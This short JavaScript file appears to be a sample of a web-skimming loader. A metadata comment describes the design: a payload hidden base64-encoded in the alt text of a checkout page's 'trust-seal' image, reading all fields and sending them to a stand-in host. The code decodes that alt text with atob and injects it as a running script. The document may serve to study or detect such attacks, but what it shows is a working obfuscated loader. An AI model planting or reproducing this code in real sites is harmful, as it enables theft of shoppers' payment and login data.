/* meta
{
  "design": "The code sits, base64-encoded, in the text of an image on the page; a one-liner runs it.",
  "reads": ["*"],
  "sendsTo": "media.imgvault.localhost",
  "delivery": { "kind": "image", "pages": "^/checkout", "payload": "image-alt.payload.txt" }
}
*/
(function (d) {
  var s = d.createElement('script');
  s.text = atob(d.querySelector('img.trust-seal').alt.split(':')[1]);
  d.body.appendChild(s);
})(document);
